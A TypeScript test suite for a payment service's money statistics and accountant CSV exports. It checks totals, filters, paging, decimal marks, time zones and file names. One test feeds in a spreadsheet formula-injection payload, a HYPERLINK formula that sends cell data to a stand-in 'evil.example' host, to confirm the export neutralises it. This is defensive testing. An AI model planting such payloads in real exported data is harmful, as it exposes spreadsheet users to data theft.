// The money a merchant hands an accountant, over HTTP through the companion and the sandbox:
// the period's paid, refunded and net per currency (GET /api/stats/money), and every order the
// list's filters match as a CSV file (GET /api/exports/orders).
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { paidOrder as ledgerPaidOrder } from '../../ledger/testing/contract.js';
import { postgresBackend, TestClock, withTestDatabase } from '../../ledger/testing/databases.js';
import { card } from '../test/cards.js';
import { createStack, eventually, payBody } from '../test/stack.js';
import type { Stack } from '../test/stack.js';
import { exportName } from './csv-file.js';

let stack: Stack;
beforeEach(async () => {
  stack = await createStack({ served: true });
});
afterEach(async () => {
  await stack.close();
});

async function order(method: 'purchase' | 'auth', amount: number, extra: Record<string, unknown> = {}, outcome: 'success' | 'rejected' = 'success'): Promise<string> {
  const session = await stack.openSession({ method, amount, ...extra });
  const answer = await (await stack.pay(session.id, payBody({ card: card(outcome), ...(extra.customer ? { customer: extra.customer } : {}) }))).json();
  expect(answer.status, JSON.stringify(answer)).toBe(outcome === 'success' ? 'success' : 'failure');
  return session.order_id;
}

const operate = (orderId: string, action: 'capture' | 'refund', amount: number) =>
  stack.json('POST', `/api/orders/${orderId}/${action}`, 200, { admin: true, body: { amount }, headers: { 'Idempotency-Key': `${orderId}-${action}-${amount}` } });

/** RFC 4180 as a spreadsheet reads it: quoted cells may hold commas, quotes (doubled) and line breaks. */
function parseCsv(text: string, separator = ','): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted && char === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (char === '"') {
      quoted = !quoted;
    } else if (!quoted && char === separator) {
      row.push(cell);
      cell = '';
    } else if (!quoted && char === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else {
      cell += char;
    }
  }
  expect(row.length + cell.length, 'the file ends with CRLF').toBe(0);
  return rows;
}

/** The rows of an export (the orders', unless `holds` says), each by its header's names. */
async function exported(query = '', holds: 'orders' | 'movements' = 'orders', options: { admin: boolean } = { admin: true }, separator = ','): Promise<Record<string, string>[]> {
  const response = await stack.request('GET', query.startsWith('/') ? query : `/api/exports/${holds}${query}`, options);
  const bytes = new Uint8Array(await response.arrayBuffer());
  const text = new TextDecoder().decode(bytes);
  expect(response.status, text).toBe(200);
  expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
  expect(response.headers.get('content-disposition')).toMatch(new RegExp(`^attachment; filename="${holds}-(?:from-|to-|all-)?\\d{4}-\\d{2}-\\d{2}(?:-to-\\d{4}-\\d{2}-\\d{2})?\\.csv"$`));
  // UTF-8's byte order mark, for Excel (the decoder drops it).
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const [header, ...rows] = parseCsv(text, separator);
  return rows.map((cells) => Object.fromEntries(header!.map((name, i) => [name, cells[i]!])));
}

describe('GET /api/stats/money', () => {
  it('adds up paid, refunded and net per currency: reserves and declines are not money', async () => {
    const tea = await order('purchase', 1010);
    await operate(tea, 'refund', 300);
    const hotel = await order('auth', 5000);
    await operate(hotel, 'capture', 3000);
    await operate(hotel, 'refund', 1000);
    await order('auth', 9000);
    await order('purchase', 7000, {}, 'rejected');
    await order('purchase', 2000, { currency: 'USD' });
    const stats = await stack.json('GET', '/api/stats/money', 200, { admin: true });
    expect(stats.money).toEqual([
      { currency: 'UAH', paid: 1010 + 3000, refunded: 1300, net: 2710 },
      { currency: 'USD', paid: 2000, refunded: 0, net: 2000 },
    ]);
    // The counts are read apart: the back office reads them at every change.
    expect((await stack.json('GET', '/api/stats', 200, { admin: true })).money).toBeUndefined();
    // A period before them holds none of it.
    const before = await stack.json('GET', `/api/stats/money?to=${new Date(Date.now() - 3_600_000).toISOString()}`, 200, { admin: true });
    expect(before.money).toEqual([]);
  });
});

describe('GET /api/exports/orders', () => {
  it('writes each order with its money in minor units and decimals, filtered as the list is', async () => {
    const tea = await order('purchase', 1010, { customer: { fname: 'Олена', lname: 'Коваль', email: 'o.koval@example.com', phone: '+380501234567' } });
    await operate(tea, 'refund', 300);
    const hotel = await order('auth', 5000);
    await operate(hotel, 'capture', 3000);
    const declined = await order('purchase', 7000, {}, 'rejected');
    // A currency without decimals (not one the sandbox's project takes: straight into the ledger).
    const yen = (await ledgerPaidOrder(stack.ledger, { orderId: 'yen-1', amount: 500, currency: 'JPY' })).orderId;

    const rows = await exported();
    expect(rows.map((row) => row.order_id)).toEqual([yen, declined, hotel, tea]);
    expect(rows.find((row) => row.order_id === tea)).toMatchObject({
      status: 'success', method: 'purchase', currency: 'UAH', amount: '1010', amount_decimal: '10.10', paid: '1010', refunded: '300', net: '710', net_decimal: '7.10',
      customer_email: 'o.koval@example.com', customer_name: 'Олена Коваль', held: 'false',
    });
    expect(rows.find((row) => row.order_id === hotel)).toMatchObject({ method: 'auth', amount: '5000', paid: '3000', paid_decimal: '30.00', refunded: '0', net: '3000' });
    expect(rows.find((row) => row.order_id === declined)).toMatchObject({ status: 'failure', paid: '0', net: '0' });
    expect(rows.find((row) => row.order_id === yen)).toMatchObject({ amount: '500', amount_decimal: '500' });
    // Never the card number: the mask only.
    for (const row of rows.filter((row) => row.card)) expect(row.card).toMatch(/^\d{6}\*+\d{4}$/);

    // The file adds up to the overview's money.
    const stats = await stack.json('GET', '/api/stats/money', 200, { admin: true });
    const uah = rows.filter((row) => row.currency === 'UAH');
    expect(uah.reduce((sum, row) => sum + Number(row.net), 0)).toBe(stats.money.find((money: { currency: string }) => money.currency === 'UAH').net);

    expect((await exported('?status=success&currency=UAH&amount=1010')).map((row) => row.order_id)).toEqual([tea]);
    expect((await exported('?email=O.Koval@example.com')).map((row) => row.order_id)).toEqual([tea]);
    expect(await exported(`?created_from=${encodeURIComponent(new Date(Date.now() + 60_000).toISOString())}`)).toEqual([]);

    // Held, until a person settles it: then when they did.
    await stack.ledger.recordGatewayOperation(hotel, { kind: 'refund', amount: 9000, status: 'success', operationId: 'portal-refund', shown: 1 });
    expect((await exported('?held=true')).map((row) => [row.order_id, row.held, row.discrepancy_settled_at])).toEqual([[hotel, 'true', '']]);
    const settled = await stack.json('POST', `/api/orders/${hotel}/settle-discrepancy`, 200, { admin: true, body: { note: 'Refunded twice by mistake in the portal; the customer returned it', version: 1 } });
    expect(await exported('?held=true')).toEqual([]);
    expect((await exported()).find((row) => row.order_id === hotel)).toMatchObject({ held: 'false', discrepancy_settled_at: settled.order.discrepancy.settled.settled_at });
  });

  it('tells a reserve still held from one voided, though neither is money paid', async () => {
    const held = await order('auth', 4000);
    const voided = await order('auth', 2500);
    await stack.json('POST', `/api/orders/${voided}/void`, 200, { admin: true, headers: { 'Idempotency-Key': `${voided}-void` } });
    const rows = await exported();
    expect(rows.map(({ order_id: id, paid, capturable, capturable_decimal: decimal, voided: isVoided }) => [id, paid, capturable, decimal, isVoided])).toEqual([
      [voided, '0', '0', '0.00', 'true'],
      [held, '0', '4000', '40.00', 'false'],
    ]);
  });

  it('keeps customers’ text as text: quoted, and never run as a formula', async () => {
    const name = '=HYPERLINK("https://evil.example/?q="&A1, "a, b")';
    const id = await order('purchase', 1010, { customer: { fname: name, lname: '+1', email: 'x@example.com', phone: '+380501234567' } });
    const response = await stack.request('GET', '/api/exports/orders', { admin: true });
    const text = await response.text();
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?q=""&A1, ""a, b"") +1"`);
    const [row] = parseCsv(text).slice(1);
    expect(row).toContain(id);
  });

  it('keeps ids and phones that are digits as written: a spreadsheet would drop a leading zero or round them', async () => {
    await order('purchase', 1010, { order_id: '000123', customer_id: '12345678901234567890', customer: { fname: 'Olena', lname: 'Koval', email: 'x@example.com', phone: '0931112233' } });
    const [row] = await exported();
    expect(row).toMatchObject({ order_id: "'000123", customer_id: "'12345678901234567890", customer_phone: "'0931112233", amount: '1010' });
  });

  it('pages through the whole ledger, every order once, newest first', async () => {
    const made: string[] = [];
    for (let i = 0; i < 450; i++) made.push((await ledgerPaidOrder(stack.ledger, { orderId: `bulk-${String(i).padStart(3, '0')}`, amount: 100 + i, currency: 'UAH', description: `Tea no. ${i}` })).orderId);
    // What each order sold is read once a page (three of them), never once an order.
    const described = vi.spyOn(stack.ledger, 'descriptionsOfOrders');
    const rows = await exported('?status=success');
    expect(described).toHaveBeenCalledTimes(3);
    expect(rows).toHaveLength(450);
    expect(rows.find((row) => row.order_id === 'bulk-007')?.description).toBe('Tea no. 7');
    expect(new Set(rows.map((row) => row.order_id)).size).toBe(450);
    expect(rows.map((row) => row.order_id).sort()).toEqual([...made].sort());
    const times = rows.map((row) => Date.parse(row.created_at!));
    expect(times).toEqual([...times].sort((a, b) => b - a));
  });

  it('cuts the download short when the ledger fails after the first page, and says why in the log', async () => {
    for (let i = 0; i < 201; i++) await ledgerPaidOrder(stack.ledger, { orderId: `cut-${String(i).padStart(3, '0')}` });
    const { listOrders } = stack.ledger;
    // The second page's read fails: the answer and its first page are on their way already.
    Object.assign(stack.ledger, { listOrders: (query: Parameters<typeof listOrders>[0]) => (query?.cursor ? Promise.reject(new Error('disk I/O error')) : listOrders(query)) });
    // Said once, in the companion's log: not again, raw, on stderr by the HTTP adapter.
    const printed = vi.spyOn(console, 'error');
    try {
      const response = await stack.request('GET', '/api/exports/orders', { admin: true });
      expect(response.status).toBe(200);
      await expect(response.text()).rejects.toThrow();
      await eventually(() => expect(stack.logs.join('\n')).toContain('the orders export stopped: the ledger could not be read'));
      expect(printed).not.toHaveBeenCalled();
    } finally {
      printed.mockRestore();
    }
  });

  it('blames nothing when the client stops reading as the next page is read', async () => {
    // In process: the next page is read exactly when the reader asks for it.
    const local = await createStack();
    try {
      for (let i = 0; i < 201; i++) await ledgerPaidOrder(local.ledger, { orderId: `left-${String(i).padStart(3, '0')}` });
      const { listOrders, totalsOfOrders } = local.ledger;
      let pages = 0;
      let secondRead!: () => void;
      const secondPage = new Promise<void>((resolve) => (secondRead = resolve));
      let secondAsked!: () => void;
      const secondReading = new Promise<void>((resolve) => (secondAsked = resolve));
      Object.assign(local.ledger, {
        listOrders: (query: Parameters<typeof listOrders>[0]) => {
          if (query?.cursor) secondAsked();
          return listOrders(query);
        },
        totalsOfOrders: async (...args: Parameters<typeof totalsOfOrders>) => {
          try {
            return await totalsOfOrders(...args);
          } finally {
            if (++pages === 2) secondRead();
          }
        },
      });
      const reader = (await local.request('GET', '/api/exports/orders', { admin: true })).body!.getReader();
      await reader.read();
      const next = reader.read();
      // The client goes (a closed tab, an interrupted curl) while the second page is read.
      await secondReading;
      await reader.cancel();
      await next;
      await secondPage;
      await new Promise((resolve) => setImmediate(resolve));
      expect(local.logs.filter((line) => line.includes('orders export stopped'))).toEqual([]);
    } finally {
      await local.close();
    }
  });

  it('lets the event loop turn between pages, though an SQLite ledger answers at once and the client reads as fast', async () => {
    // In process: the reader takes each page as soon as it is written, as a fast client's socket does.
    const local = await createStack();
    try {
      for (let i = 0; i < 401; i++) await ledgerPaidOrder(local.ledger, { orderId: `turn-${String(i).padStart(3, '0')}` });
      const reader = (await local.request('GET', '/api/exports/orders', { admin: true })).body!.getReader();
      await reader.read();
      // What waits for the loop — a payment's request, a webhook, /healthz — gets in before the file ends.
      let turned = false;
      setImmediate(() => (turned = true));
      const turnedByPage: boolean[] = [];
      while (!(await reader.read()).done) turnedByPage.push(turned);
      expect(turnedByPage).toEqual([true, true]);
    } finally {
      await local.close();
    }
  });

  it('is the merchant’s only, and refuses what the list refuses and paging with 400 naming the field', async () => {
    expect((await stack.request('GET', '/api/exports/orders')).status).toBe(401);
    for (const [query, field] of [
      ['?limit=10', 'limit'],
      ['?cursor=abc', 'cursor'],
      ['?status=paid', 'status'],
      ['?currency=uah', 'currency'],
      ['?created_from=yesterday', 'created_from'],
      ['?created_from=2030-01-02T00:00:00Z&created_to=2030-01-01T00:00:00Z', 'created_to'],
    ] as const) {
      const problem = await stack.json('GET', `/api/exports/orders${query}`, 400, { admin: true });
      expect(Object.keys(problem.error.fields), query).toContain(field);
    }
  });
});

/** Waits out the clock's millisecond: what comes next is made after `now`. */
async function nextMillisecond(): Promise<number> {
  const now = Date.now();
  while (Date.now() <= now) await new Promise((resolve) => setTimeout(resolve, 1));
  return Date.now();
}

const period = (from: number, to: number) => `from=${encodeURIComponent(new Date(from).toISOString())}&to=${encodeURIComponent(new Date(to).toISOString())}`;

describe('a file for a spreadsheet set to a decimal comma (decimal_mark=comma)', () => {
  // Opened so (Ukrainian, German), the comma file is one column, 77.77 text that SUM skips, and a
  // three-decimal 12.340 a number: twelve thousand three hundred and forty, 1000 times the money.
  it('separates cells with semicolons and writes decimals with a comma; minor units as they are', async () => {
    const tea = await order('purchase', 1010, { customer: { fname: 'Olena', lname: 'Koval; Jr.', email: 'o.koval@example.com', phone: '+380501234567' } });
    await operate(tea, 'refund', 300);
    const dinars = (await ledgerPaidOrder(stack.ledger, { orderId: 'kwd-1', amount: 12340, currency: 'KWD' })).orderId;

    const rows = await exported('?decimal_mark=comma', 'orders', { admin: true }, ';');
    expect(rows.find((row) => row.order_id === dinars)).toMatchObject({ currency: 'KWD', amount: '12340', amount_decimal: '12,340', paid_decimal: '12,340', refunded_decimal: '0,000' });
    expect(rows.find((row) => row.order_id === tea)).toMatchObject({ amount: '1010', amount_decimal: '10,10', refunded: '300', net_decimal: '7,10', customer_name: 'Olena Koval; Jr.', customer_phone: "'+380501234567" });
    const journal = await exported('?decimal_mark=comma', 'movements', { admin: true }, ';');
    expect(journal.map(({ kind, amount, amount_decimal: decimal }) => [kind, amount, decimal])).toEqual([['sale', '1010', '10,10'], ['refund', '-300', '-3,00'], ['sale', '12340', '12,340']]);

    // The link the back office follows carries it; the default file is as it was.
    for (const holds of ['orders', 'movements'] as const) {
      const link = await stack.json('GET', `/api/exports/${holds}/link?decimal_mark=comma`, 200, { admin: true });
      expect(await exported(link.path, holds, { admin: false }, ';')).toEqual(holds === 'orders' ? rows : journal);
    }
    expect((await exported('?decimal_mark=point')).find((row) => row.order_id === dinars)).toMatchObject({ amount_decimal: '12.340' });

    // Only the files take it, and only those two marks.
    for (const path of ['/api/exports/orders?decimal_mark=dot', '/api/exports/movements/link?decimal_mark=', '/api/orders?decimal_mark=comma', '/api/movements?decimal_mark=comma']) {
      const refused = await stack.json('GET', path, 400, { admin: true });
      expect(refused.error.fields, path).toHaveProperty('decimal_mark');
    }
  });
});

describe('the files’ times in the accountant’s zone (time_zone)', () => {
  // The file's ISO 8601 instants in UTC are text to a spreadsheet, in every language, and a day's
  // last hours in Kyiv are the next day's there.
  it('adds each row’s local date and time, which a spreadsheet reads as one, in the zone asked for', async () => {
    await stack.close();
    const clock = new TestClock(Date.parse('2026-10-25T01:30:00Z'));
    stack = await createStack({ served: true, clock });
    const fallBack = (await ledgerPaidOrder(stack.ledger, { orderId: 'dst-1', amount: 100, currency: 'UAH' })).orderId;
    clock.now = Date.parse('2026-10-31T22:30:00Z');
    const late = (await ledgerPaidOrder(stack.ledger, { orderId: 'late-1', amount: 5050, currency: 'UAH' })).orderId;

    const rows = await exported('?time_zone=Europe/Kyiv');
    expect(rows.find((row) => row.order_id === late)).toMatchObject({ created_at: '2026-10-31T22:30:00.000Z', created_at_local: '2026-11-01 00:30:00' });
    // The hour the clocks go back comes twice: created_at, in UTC, still tells them apart.
    expect(rows.find((row) => row.order_id === fallBack)).toMatchObject({ created_at: '2026-10-25T01:30:00.000Z', created_at_local: '2026-10-25 03:30:00' });
    expect((await exported('?time_zone=Europe/Berlin&decimal_mark=comma', 'orders', { admin: true }, ';')).find((row) => row.order_id === late)).toMatchObject({ created_at_local: '2026-10-31 23:30:00' });
    // Without it, the file is as it was: the column is not there.
    expect(Object.keys((await exported())[0]!)).not.toContain('created_at_local');

    const journal = await exported(`?from=2026-10-01T00:00:00Z&to=2026-11-02T00:00:00Z&time_zone=Europe/Kyiv`, 'movements');
    expect(journal.map(({ order_id: id, at, at_local: local }) => [id, at, local])).toEqual([
      [fallBack, '2026-10-25T01:30:00.000Z', '2026-10-25 03:30:00'],
      [late, '2026-10-31T22:30:00.000Z', '2026-11-01 00:30:00'],
    ]);
    const link = await stack.json('GET', '/api/exports/movements/link?from=2026-10-01T00:00:00Z&to=2026-11-02T00:00:00Z&time_zone=Europe/Kyiv', 200, { admin: true });
    expect(await exported(link.path, 'movements', { admin: false })).toEqual(journal);

    for (const path of ['/api/exports/orders?time_zone=Kyiv', '/api/exports/movements?time_zone=', '/api/exports/orders/link?time_zone=Mars/Olympus']) {
      const refused = await stack.json('GET', path, 400, { admin: true });
      expect(refused.error.fields, path).toHaveProperty('time_zone');
    }
  });
});

describe('the journal of money moved: GET /api/movements, /api/exports/movements', () => {
  it('dates each sale, capture and refund by when it was made, so a closed period keeps its figures', async () => {
    const start = Date.now();
    const tea = await order('purchase', 1010, { description: 'Green tea, 250 g' });
    const hotel = await order('auth', 5000);
    await order('purchase', 7000, {}, 'rejected');
    const closed = await nextMillisecond();
    // The period is closed; then come a refund of its sale and the capture of its reserve.
    await operate(tea, 'refund', 300);
    await operate(hotel, 'capture', 3000);
    const end = (await nextMillisecond()) + 1;

    const first = await stack.json('GET', `/api/movements?${period(start, closed)}`, 200, { admin: true });
    expect(first.movements.map((m: Record<string, unknown>) => [m.kind, m.order_id, m.amount, m.description])).toEqual([['sale', tea, 1010, 'Green tea, 250 g']]);
    const later = await stack.json('GET', `/api/movements?${period(closed, end)}`, 200, { admin: true });
    expect(later.movements.map((m: Record<string, unknown>) => [m.kind, m.order_id, m.amount, m.origin])).toEqual([['refund', tea, -300, 'merchant'], ['capture', hotel, 3000, 'merchant']]);
    expect(later.movements[0]).toMatchObject({ currency: 'UAH', order_created_at: first.movements[0].order_created_at, operation_id: expect.any(String), payment_id: first.movements[0].payment_id });

    // The money of the closed period is what it was when it closed, dated by movement; by order it changed.
    const money = (query: string) => stack.json('GET', `/api/stats/money?${query}`, 200, { admin: true });
    expect(await money(`${period(start, closed)}&dated_by=movement`)).toMatchObject({ dated_by: 'movement', money: [{ currency: 'UAH', paid: 1010, refunded: 0, net: 1010 }] });
    expect(await money(`${period(closed, end)}&dated_by=movement`)).toMatchObject({ money: [{ currency: 'UAH', paid: 3000, refunded: 300, net: 2700 }] });
    expect(await money(period(start, closed))).toMatchObject({ dated_by: 'order', money: [{ currency: 'UAH', paid: 1010 + 3000, refunded: 300, net: 3710 }] });

    // The file: the same lines, signed, their decimals beside them, adding up to the period's net.
    const rows = await exported(`?${period(closed, end)}`, 'movements');
    expect(rows.map(({ kind, order_id: id, currency, amount, amount_decimal: decimal }) => [kind, id, currency, amount, decimal])).toEqual([
      ['refund', tea, 'UAH', '-300', '-3.00'],
      ['capture', hotel, 'UAH', '3000', '30.00'],
    ]);
    expect(rows.reduce((sum, row) => sum + Number(row.amount), 0)).toBe(2700);
    // A signed link for the browser: the same file without the token.
    const link = await stack.json('GET', `/api/exports/movements/link?${period(closed, end)}`, 200, { admin: true });
    expect(link.path).toMatch(/^\/api\/downloads\/movements\?from=/);
    expect(await exported(link.path, 'movements', { admin: false })).toEqual(rows);
  });

  it('names a file of the default thirty days by those days, not by the one it was made on', async () => {
    const response = await stack.request('GET', '/api/exports/movements', { admin: true });
    expect(response.status).toBe(200);
    const day = (ms: number) => new Date(ms).toISOString().slice(0, 10);
    const now = Date.now();
    // An accountant read movements-<today>.csv as that day's journal.
    expect(response.headers.get('content-disposition')).toBe(`attachment; filename="movements-${day(now - 30 * 86_400_000)}-to-${day(now)}.csv"`);
    await response.arrayBuffer();
    // Thirty days up to a `to`, named so; from a `from` on, to now, as before.
    const ending = await stack.request('GET', '/api/exports/movements?to=2030-02-01T00:00:00Z', { admin: true });
    expect(ending.headers.get('content-disposition')).toBe('attachment; filename="movements-2030-01-02-to-2030-01-31.csv"');
    await ending.arrayBuffer();
    const since = await stack.request('GET', '/api/exports/movements?from=2020-01-01T00:00:00Z', { admin: true });
    expect(since.headers.get('content-disposition')).toBe('attachment; filename="movements-from-2020-01-01.csv"');
    await since.arrayBuffer();
  });

  it('pages oldest first, every movement once', async () => {
    const start = Date.now();
    const made: string[] = [];
    for (let i = 0; i < 5; i++) made.push(await order('purchase', 1000 + i));
    const end = (await nextMillisecond()) + 1;
    const seen: string[] = [];
    let cursor: string | null = null;
    do {
      const page: { movements: { order_id: string }[]; next_cursor: string | null } = await stack.json('GET', `/api/movements?${period(start, end)}&limit=2${cursor ? `&cursor=${cursor}` : ''}`, 200, { admin: true });
      expect(page.movements.length).toBeLessThanOrEqual(2);
      seen.push(...page.movements.map((m) => m.order_id));
      cursor = page.next_cursor;
    } while (cursor);
    expect(seen).toEqual(made);
  });

  it('is the merchant’s only, and refuses a period it cannot read with 400 naming the field', async () => {
    for (const path of ['/api/movements', '/api/exports/movements', '/api/exports/movements/link', '/api/downloads/movements']) {
      expect((await stack.request('GET', path)).status, path).toBe(path.startsWith('/api/downloads') ? 403 : 401);
    }
    for (const [path, field] of [
      ['/api/movements?from=yesterday', 'from'],
      ['/api/movements?from=2030-01-02T00:00:00Z&to=2030-01-01T00:00:00Z', 'to'],
      ['/api/movements?cursor=abc', 'cursor'],
      ['/api/movements?limit=201', 'limit'],
      ['/api/movements?status=success', 'status'],
      ['/api/exports/movements?limit=10', 'limit'],
      ['/api/exports/movements/link?to=2030-01-01', 'to'],
      ['/api/stats/money?dated_by=payout', 'dated_by'],
    ] as const) {
      const problem = await stack.json('GET', path, 400, { admin: true });
      expect(Object.keys(problem.error.fields), path).toContain(field);
    }
  });
});

/** What was sold, and one currency's orders: through the companion on each database. */
function describeTheFile(backend: string, reopen?: () => Promise<Stack>): void {
  describe(`the accountant's file on ${backend}`, () => {
    if (reopen) {
      beforeEach(async () => {
        await stack.close();
        stack = await reopen();
      });
    }

    it('says what each order sold, as text a spreadsheet never runs, and lists one currency alone', async () => {
      const tea = await order('purchase', 1010, { description: 'Green tea, 250 g' });
      const prank = '=1+2 "gift", wrapped\nwith a card';
      const gift = await order('purchase', 1500, { description: prank });
      const dollars = await order('purchase', 2000, { currency: 'USD', description: 'Matcha, 30 g' });

      const response = await stack.request('GET', '/api/exports/orders', { admin: true });
      const text = await response.text();
      expect(text).toContain(`"'=1+2 ""gift"", wrapped\nwith a card"`);
      // Money bare, decimals too: a spreadsheet told to keep quoted cells as text still adds it up.
      expect(text).toContain(`,"Matcha, 30 g","USD",2000,20.00,2000,20.00,0,0.00,2000,20.00,`);
      const rows = await exported();
      expect(rows.map((row) => [row.order_id, row.description])).toEqual([[dollars, 'Matcha, 30 g'], [gift, `'${prank}`], [tea, 'Green tea, 250 g']]);

      // A currency alone, in the file and in the list: that currency's orders, every amount.
      expect((await exported('?currency=USD')).map((row) => [row.order_id, row.currency, row.amount])).toEqual([[dollars, 'USD', '2000']]);
      expect((await exported('?currency=UAH&status=success')).map((row) => row.order_id)).toEqual([gift, tea]);
      expect(await exported('?currency=EUR')).toEqual([]);
      const listed = await stack.json('GET', '/api/orders?currency=UAH', 200, { admin: true });
      expect(listed.orders.map((listedOrder: { order_id: string }) => listedOrder.order_id)).toEqual([gift, tea]);
    });
  });
}

describeTheFile('SQLite');
withTestDatabase((url) => describeTheFile('PostgreSQL', () => createStack({ served: true, backend: postgresBackend(url) })));

describe('the orders file’s name', () => {
  it('says the days asked for, in the offset they were asked in, else that it holds all, and the day it was made', async () => {
    // December in Kiritimati (UTC+14), asked at its first and last midnights.
    const december = `?created_from=${encodeURIComponent('2026-12-01T00:00:00+14:00')}&created_to=${encodeURIComponent('2027-01-01T00:00:00+14:00')}`;
    const response = await stack.request('GET', `/api/exports/orders${december}`, { admin: true });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="orders-2026-12-01-to-2026-12-31.csv"');
    await response.arrayBuffer();
    expect(exportName('orders', '2026-11-01T00:00:00+02:00', '2026-11-02T00:00:00+02:00', 0)).toBe('orders-2026-11-01.csv');
    expect(exportName('orders', '2026-03-01T00:00:00Z', '2026-03-01T12:30:00Z', 0)).toBe('orders-2026-03-01.csv');
    expect(exportName('orders', '2024-03-01T00:00:00.000-05:00', undefined, 0)).toBe('orders-from-2024-03-01.csv');
    expect(exportName('orders', undefined, '2024-03-01T00:00:00-05:00', 0)).toBe('orders-to-2024-02-29.csv');
    expect(exportName('orders', undefined, undefined, Date.UTC(2026, 10, 30, 23))).toBe('orders-all-2026-11-30.csv');
  });
});
